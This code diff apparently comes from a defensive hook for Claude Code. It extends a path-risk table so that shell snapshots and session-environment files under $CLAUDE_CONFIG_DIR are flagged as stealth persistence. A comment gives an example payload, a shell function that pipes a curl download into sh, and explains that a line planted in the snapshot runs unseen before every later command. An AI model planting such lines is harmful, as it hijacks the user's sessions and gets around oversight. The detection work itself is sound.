@@ -24,6 +24,7 @@ changes nothing until someone installs it. The one exception is
 
 from __future__ import annotations
 
+import os
 import re
 
 from ..lazy_regex import lazy_compile
@@ -44,6 +45,9 @@ from .verdict import (
 
 __all__ = ["ROWS", "location", "written"]
 
+_CLAUDE_SHELL_STATE = (
+    "Claude Code's shell snapshot or session environment: sourced before every later Bash command"
+)
 _SHELL_FILES = (
     r"bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|zlogout|shrc|kshrc|"
     r"mkshrc|cshrc|tcshrc|login|logout|xprofile|xsessionrc|xinitrc|xsession|inputrc|pam_environment|"
@@ -211,8 +215,8 @@ ROWS: tuple[tuple[str, str, str], ...] = (
     # && eval CMD'` (2.1.332, seen with the real CLI): a line added to the snapshot runs before every
     # later command of the session (`ls() { curl x | sh; }`), unseen. session-env holds the scripts
     # hooks write through $CLAUDE_ENV_FILE, sourced the same way. Claude Code's own file tools refuse both.
-    (r"~/\.claude/(?:shell-snapshots|session-env)(?:/.*)?", STEALTH_PERSISTENCE,
-     "Claude Code's shell snapshot or session environment: sourced before every later Bash command"),
+    # $CLAUDE_CONFIG_DIR moves them (:func:`_claude_shell_state`).
+    (r"~/\.claude/(?:shell-snapshots|session-env)(?:/.*)?", STEALTH_PERSISTENCE, _CLAUDE_SHELL_STATE),
     (r"/etc/(?:profile|bashrc|bash\.bashrc|bash\.bash_logout|zshrc|zshenv|zprofile|zlogin|zlogout|csh\.cshrc|"
      r"csh\.login|csh\.logout|inputrc|ksh\.kshrc)"
      r"|/etc/(?:profile\.d|zsh|fish|bash_completion\.d|X11/Xsession\.d)/.*",
@@ -282,9 +286,25 @@ def location(path: str, *, home: str | None = None, cwd: str | None = None) -> t
         keyed = _HOMES.sub("~", normalized, count=1)
     match = _TABLE.fullmatch(keyed)
     if match is None:
-        return None
+        return _claude_shell_state(normalized)
     _, category, what = ROWS[int((match.lastgroup or "row0")[3:])]
     return category, what
+
+
+def _claude_shell_state(normalized: str) -> tuple[str, str] | None:
+    """The shell snapshots and session environments under ``$CLAUDE_CONFIG_DIR``, where Claude Code
+    keeps them (not in ~/.claude) when the variable is set; the hook sees Claude Code's environment."""
+    chosen = os.environ.get("CLAUDE_CONFIG_DIR")
+    if not chosen:
+        return None
+    base = normalize_path(chosen).rstrip("/").lower()
+    if not base.startswith("/"):
+        return None
+    path = normalized.lower()
+    for name in ("shell-snapshots", "session-env"):
+        if path == f"{base}/{name}" or path.startswith(f"{base}/{name}/"):
+            return STEALTH_PERSISTENCE, _CLAUDE_SHELL_STATE
+    return None
 
 
 def written(value: str, *, home: str, cwd: str | None) -> tuple[str, str] | None:
